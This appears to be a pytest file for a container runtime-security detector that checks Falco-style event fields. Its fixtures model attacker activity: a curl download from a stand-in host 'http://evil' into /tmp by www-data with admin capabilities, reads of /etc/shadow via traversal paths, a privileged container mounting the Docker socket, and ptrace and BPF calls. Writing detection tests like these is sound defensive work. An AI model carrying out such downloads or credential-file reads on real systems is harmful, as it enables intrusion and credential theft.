"""What each field says of an event, in Falco's words."""

from datetime import timedelta

import pytest
from tests.support.events import AT, event, process

from hullguard.detect.fields.catalog import BY_NAME
from hullguard.model.event import (
    Capabilities,
    ContainerDetails,
    ContainerRef,
    Endpoint,
    Event,
    EventKind,
    ImageRef,
    Mount,
    OpenFile,
    Pod,
    Socket,
    Stream,
)

RUNC = process(pid=1, ppid=0, comm="runc", exe="/usr/bin/runc", args=("runc", "exec", "-t"), session=1)
SSHD = process(pid=10, ppid=1, comm="sshd", exe="/usr/sbin/sshd", args=("/usr/sbin/sshd", "-D"), session=10)
BASH = process(
    pid=20, ppid=10, comm="bash", exe="/bin/bash", args=("-bash",), session=20, started=AT - timedelta(minutes=1),
    env=("SUDO_USER=eve", "TERM=xterm"), vpid=7,
)  # fmt: skip
CURL = process(
    pid=30,
    ppid=20,
    comm="curl",
    exe="/usr/bin/curl",
    args=("curl", "-o", "/tmp/x y", "http://evil"),
    cwd="/dev/shm",
    session=20,
    group=30,
    uid=33,
    gid=33,
    login_uid=1000,
    user_name="www-data",
    tty=True,
    started=AT - timedelta(seconds=2),
    capabilities=Capabilities(effective=1 << 21 | 1 << 16),
    exe_inode=77,
    exe_new=True,
    env=("HTTP_PROXY=http://p",),
    vpid=8,
    streams=(Stream("ipv4", "1.1.1.1:1->2.2.2.2:2"), Stream("file", "/dev/null")),
)
LINEAGE = (RUNC, SSHD, BASH, CURL)
DETAILS = ContainerDetails(
    engine="docker",
    privileged=True,
    mounts=(Mount("/proc", "/host/proc", "ro", writable=False), Mount("/var/run/docker.sock", "/docker.sock")),
    labels={"app": "web", "io.kubernetes.x": "1"},
    started=AT - timedelta(hours=1),
    builds_image=False,
    pod=Pod("web-1", "shop", uid="u", sandbox="5" * 64, labels={"tier": "front"}),
)


def value(name: str, given: Event) -> object:
    """As a rule would read it: with its brackets, or a name after the last dot where the field takes one."""
    base, bracket, argument = name.partition("[")
    if bracket:
        return BY_NAME[base].reader(argument.removesuffix("]"))(given)
    if base in BY_NAME:
        return BY_NAME[base].reader(None)(given)
    base, _, argument = name.rpartition(".")
    assert BY_NAME[base].prefix
    return BY_NAME[base].reader(argument)(given)


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("proc.name", "curl"),
        ("proc.exe", "curl"),
        ("proc.exepath", "/usr/bin/curl"),
        ("proc.cmdline", "curl -o /tmp/x y http://evil"),
        ("proc.args", "-o /tmp/x y http://evil"),
        ("proc.args[0]", "-o"),
        ("proc.args[7]", None),
        ("proc.args[*]", ("-o", "/tmp/x y", "http://evil")),
        ("proc.exeline", "curl -o /tmp/x y http://evil"),
        ("proc.cmdnargs", 3),
        ("proc.cmdlenargs", 21),
        ("proc.cwd", "/dev/shm/"),
        ("proc.pid", 30),
        ("proc.ppid", 20),
        ("proc.vpid", 8),
        ("proc.pvpid", 7),
        ("proc.pname", "bash"),
        ("proc.pexe", "-bash"),
        ("proc.pexepath", "/bin/bash"),
        ("proc.pcmdline", "bash"),
        ("proc.aname", ("bash", "sshd", "runc")),
        ("proc.aname[*]", ("bash", "sshd", "runc")),
        ("proc.aname[0]", "curl"),
        ("proc.aname[1]", "bash"),
        ("proc.aname[3]", "runc"),
        ("proc.aname[4]", None),
        ("proc.aexe[2]", "/usr/sbin/sshd"),
        ("proc.aexepath[2]", "/usr/sbin/sshd"),
        ("proc.acmdline[2]", "sshd -D"),
        ("proc.apid", (20, 10, 1)),
        ("proc.tty", 1),
        ("proc.sid", 20),
        ("proc.sname", "bash"),
        ("proc.sid.exe", "-bash"),
        ("proc.pgid", 30),
        ("proc.is_sid_leader", False),
        ("proc.is_vpgid_leader", True),
        ("proc.vpgid.name", "curl"),
        ("proc.loginshellid", 20),
        ("proc.duration", 2_000_000_000),
        ("proc.ppid.duration", 60_000_000_000),
        ("proc.is_exe_upper_layer", True),
        ("proc.is_exe_from_memfd", False),
        ("proc.exe_ino", 77),
        ("proc.env", "HTTP_PROXY=http://p"),
        ("proc.env[HTTP_PROXY]", "http://p"),
        ("proc.env[HTTP]", None),
        ("proc.aenv", ("SUDO_USER=eve TERM=xterm",)),
        ("proc.aenv[SUDO_USER]", "eve"),
        ("proc.aenv[1]", "SUDO_USER=eve TERM=xterm"),
        ("proc.stdin.type", "ipv4"),
        ("proc.stdout.name", "/dev/null"),
        ("proc.stderr.type", None),
        ("thread.cap_effective", "CAP_SYS_MODULE CAP_SYS_ADMIN"),
        ("thread.cap_permitted", ""),
        ("user.uid", 33),
        ("user.name", "www-data"),
        ("user.loginuid", 1000),
        ("group.gid", 33),
        ("container.id", "c0ffee000000"),
        ("container.name", "web"),
        ("container.image", "nginx:1.25"),
        ("container.image.repository", "nginx"),
        ("container.image.tag", "1.25"),
        ("container.image.digest", None),
        ("container.type", "docker"),
        ("container.privileged", True),
        ("container.builds_image", False),
        ("container.mounts", "/proc:/host/proc:ro:false:,/var/run/docker.sock:/docker.sock::true:"),
        ("container.mount[0]", "/proc:/host/proc:ro:false:"),
        ("container.mount.dest[/proc*]", "/host/proc"),
        ("container.mount.source[/docker.sock]", "/var/run/docker.sock"),
        ("container.mount.dest[/etc]", None),
        ("container.mount.rdwr[1]", "true"),
        ("container.mount.dest[*]", ("/host/proc", "/docker.sock")),
        ("container.labels", "app:web"),
        ("container.label[app]", "web"),
        ("container.label.app", "web"),
        ("container.duration", 3_600_000_000_000),
        ("k8s.ns.name", "shop"),
        ("k8s.pod.name", "web-1"),
        ("k8s.pod.label[tier]", "front"),
        ("k8s.pod.sandbox_id", "5" * 12),
        ("evt.type", "execve"),
        ("evt.arg.flags", "EXE_UPPER_LAYER"),
        ("evt.res", "SUCCESS"),
        ("evt.num", 7),
        ("evt.dir", ("<", ">")),
        ("evt.category", "process"),
        ("evt.time", "07:08:09.000000000"),
        ("evt.time.iso8601", "2024-05-06T07:08:09.000000000+0000"),
        ("evt.rawtime.s", 1714979289),
        ("fd.name", None),
    ],
)
def test_a_running_program(name: str, said: object) -> None:
    assert value(name, event(lineage=LINEAGE, container_details=DETAILS)) == said


def opened(**changes: object) -> Event:
    given = {
        "path": "/etc/shadow",
        "raw_path": "../etc/./shadow",
        "reads": True,
        "result": 3,
        "call": "openat2",
        "file": OpenFile(inode=5, device=8 << 20 | 1, flags=0o2000000, file_system="overlay", upper=True),
    }
    return event(EventKind.FILE_OPEN, lineage=LINEAGE, **(given | changes))


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("evt.type", "openat2"),
        ("fd.name", "/etc/shadow"),
        ("fd.nameraw", "../etc/./shadow"),
        ("fd.directory", "/etc"),
        ("fd.filename", "shadow"),
        ("fd.containername", "c0ffee000000:/etc/shadow"),
        ("fd.num", 3),
        ("fd.type", "file"),
        ("fd.typechar", "f"),
        ("fd.ino", 5),
        ("fd.dev.major", 8),
        ("fd.dev.minor", 1),
        ("fd.is_upper_layer", True),
        ("fd.filesystem", "overlay"),
        ("fd.sip", None),
        ("fs.path.name", "/etc/shadow"),
        ("fs.path.nameraw", "../etc/./shadow"),
        ("evt.is_open_read", True),
        ("evt.is_open_write", False),
        ("evt.arg.flags", "O_RDONLY|O_CLOEXEC|FD_UPPER_LAYER"),
        ("evt.arg.name", "../etc/./shadow"),
        ("evt.arg[0]", "SUCCESS"),
        ("evt.arg[1]", "../etc/./shadow"),
        ("evt.arg[99]", None),
        ("evt.rawarg.flags", 0o2000000),
        ("evt.rawres", 3),
    ],
)
def test_an_opened_file(name: str, said: object) -> None:
    assert value(name, opened()) == said


def test_an_open_that_failed_has_the_path_that_was_tried() -> None:
    given = opened(path=None, raw_path="../../etc/shadow", result=-13, file=None)

    assert value("fd.name", given) == "/etc/shadow"
    assert value("fd.num", given) == -1
    assert value("evt.res", given) == "EACCES"
    assert value("evt.failed", given) is True
    assert value("fs.path.name", given) is None


def test_a_path_that_counts_from_an_unknown_directory_is_not_guessed() -> None:
    given = opened(path=None, raw_path="shadow", arguments={"dirfd": 5})

    assert value("fd.name", given) is None
    assert value("fd.name", opened(path=None, raw_path="s", arguments={"dirfd": 5, "directory": "/etc"})) == "/etc/s"


def test_an_event_told_before_its_result_counts_as_done() -> None:
    given = opened(result=None)

    assert value("fd.num", given) == 0
    assert value("evt.res", given) == "SUCCESS"
    assert value("evt.rawres", given) == 0


def test_truncation_and_creation() -> None:
    made = OpenFile(flags=0o1101, created=True)
    given = opened(file=made, writes=True, reads=False, arguments={"mode": 0o755})

    assert value("evt.arg.flags", given) == "O_WRONLY|O_CREAT|O_TRUNC|O_F_CREATED"
    assert value("evt.is_open_create", given) is True
    assert value("evt.is_open_exec", given) is True
    assert value("evt.is_open_exec", opened(file=made, arguments={"mode": 0o644})) is False


def test_an_operation_of_a_ring_has_the_name_of_its_call() -> None:
    assert value("evt.type", opened(call="io_uring openat")) == "openat"
    assert value("evt.is_ring", opened(call="io_uring openat")) is True


CLIENT, SERVER = Endpoint("10.0.0.2", 40000), Endpoint("1.2.3.4", 443, "api.example")


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("evt.type", "connect"),
        ("fd.type", "ipv4"),
        ("fd.typechar", "4"),
        ("fd.name", "10.0.0.2:40000->1.2.3.4:443"),
        ("fd.cip", "10.0.0.2"),
        ("fd.sip", "1.2.3.4"),
        ("fd.snet", "1.2.3.4"),
        ("fd.lip", "10.0.0.2"),
        ("fd.rip", "1.2.3.4"),
        ("fd.cport", 40000),
        ("fd.sport", 443),
        ("fd.sip.name", "api.example"),
        ("fd.cip.name", None),
        ("fd.ip", ("10.0.0.2", "1.2.3.4")),
        ("fd.port", (40000, 443)),
        ("fd.l4proto", "tcp"),
        ("fd.sockfamily", "ip"),
        ("fd.is_server", False),
        ("fd.connected", True),
        ("fd.directory", None),
        ("evt.arg.domain", "AF_INET"),
        ("evt.category", "net"),
    ],
)
def test_a_connection(name: str, said: object) -> None:
    socket = Socket("ipv4", "stream", local=CLIENT, remote=SERVER)

    assert value(name, event(EventKind.CONNECT, path=None, socket=socket)) == said


def test_an_accepted_connection_turns_the_ends() -> None:
    given = event(EventKind.ACCEPT, path=None, socket=Socket("ipv4", "stream", 6, SERVER, CLIENT, inbound=True))

    assert value("fd.sip", given) == "1.2.3.4"
    assert value("fd.cport", given) == 40000
    assert value("fd.is_server", given) is True
    assert value("fd.name", given) == "10.0.0.2:40000->1.2.3.4:443"


def test_other_sockets() -> None:
    unix = event(EventKind.CONNECT, path=None, socket=Socket("unix", remote=Endpoint("/run/docker.sock")))
    packet = event(EventKind.SOCKET, path=None, socket=Socket("packet", "raw"))
    six = event(EventKind.LISTEN, path=None, socket=Socket("ipv6", "stream", local=Endpoint("::", 80)))

    assert value("fd.name", unix) == "/run/docker.sock"
    assert value("fd.sip", unix) is None
    assert value("evt.arg.domain", packet) == "AF_PACKET"
    assert value("fd.name", six) == "[::]:80"
    assert value("fd.sport", six) == 80


@pytest.mark.parametrize(
    ("given", "name", "said"),
    [
        (event(EventKind.PTRACE, arguments={"request": 16}), "evt.arg.request", "PTRACE_ATTACH"),
        (event(EventKind.PTRACE, arguments={"request": 4711}), "evt.arg.request", "4711"),
        (event(EventKind.PTRACE, arguments={"request": "PTRACE_SEIZE"}), "evt.arg.request", "PTRACE_SEIZE"),
        (event(EventKind.NAMESPACE, arguments={"flags": 1 << 28}), "evt.arg.flags", "CLONE_NEWUSER"),
        (event(EventKind.FILE_MODE, file=OpenFile(mode=0o4755)), "evt.arg.mode",
         "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID"),
        (event(EventKind.FILE_LINK, path="/tmp/x", target="/etc/shadow"), "evt.arg.oldpath", "/etc/shadow"),
        (event(EventKind.FILE_LINK, path="/tmp/x", target="/etc/shadow"), "evt.arg.newpath", "/tmp/x"),
        (event(EventKind.FILE_LINK, path="/tmp/x", target="/etc/shadow"), "fs.path.source", "/tmp/x"),
        (event(EventKind.FILE_LINK, path="/tmp/x", target="/etc/shadow"), "fs.path.target", "/etc/shadow"),
        (event(EventKind.FILE_SYMLINK, path="/tmp/x", target="/etc"), "evt.arg.target", "/etc"),
        (event(EventKind.FILE_SYMLINK, path="/tmp/a/x", target="../y"), "fs.path.target", "/tmp/y"),
        (event(EventKind.FILE_RENAME, path="/a", target="/b", arguments={"raw_target": "b"}), "evt.arg.newpath", "b"),
        (event(EventKind.FILE_RENAME, path="/a", target="/b", arguments={"raw_target": 7}), "evt.arg.newpath", "7"),
        (event(EventKind.FILE_RENAME, path="/a", target="/b", arguments={"raw_target": 7}), "fs.path.targetraw", "7"),
        (event(EventKind.FILE_RENAME, path="/a", target="/b"), "fs.path.target", "/b"),
        (event(EventKind.MOUNT, path="/mnt", target="/dev/sda", arguments={"flags": 4097}), "evt.arg.flags",
         "RDONLY|BIND"),
        (event(EventKind.MOUNT, path="/mnt", target="/dev/sda"), "fs.path.source", "/dev/sda"),
        (event(EventKind.MOUNT, path="/mnt", target="/dev/sda"), "fs.path.target", "/mnt"),
        (event(EventKind.SIGNAL, arguments={"signal": 9}), "evt.arg.sig", "SIGKILL"),
        (event(EventKind.BPF, arguments={"cmd": 5}), "evt.arg.cmd", "BPF_PROG_LOAD"),
        (event(EventKind.CREDENTIALS, arguments={"uid": 0, "user_name": "root"}), "evt.arg.uid", "root"),
        (event(EventKind.DUP, result=1, arguments={"old_fd": 3, "new_fd": 1}), "evt.rawres", 1),
        (event(EventKind.DNS, arguments={"name": "a.example"}), "dns.question", "a.example"),
        (event(EventKind.PTRACE, arguments={"request": 0, "pid": 4}), "evt.args",
         "res=SUCCESS request=PTRACE_TRACEME pid=4"),
        (event(container=ContainerRef("host")), "container.name", "host"),
        (event(image=ImageRef("", "r:5000/a/b:1@sha256:ab")), "container.image.repository", "r:5000/a/b"),
        (event(image=ImageRef("", "r:5000/a/b")), "container.image.tag", None),
        (event(image=ImageRef("", "r/a@sha256:ab")), "container.image.digest", "sha256:ab"),
        (event(image=None), "container.image", None),
    ],
)  # fmt: skip
def test_other_calls(given: Event, name: str, said: object) -> None:
    assert value(name, given) == said


def test_a_process_of_which_little_is_known() -> None:
    given = event(lineage=(process(comm="", exe=None, args=(), uid=None, gid=None, ppid=0),))

    for name in ("proc.name", "proc.exe", "proc.args", "proc.cmdline", "proc.pname", "proc.ppid", "proc.duration",
                 "user.uid", "proc.sname", "proc.cwd", "proc.env", "proc.cmdnargs"):  # fmt: skip
        assert value(name, given) is None, name
    assert value("proc.aname", given) == ()
    assert value("user.loginuid", given) == -1
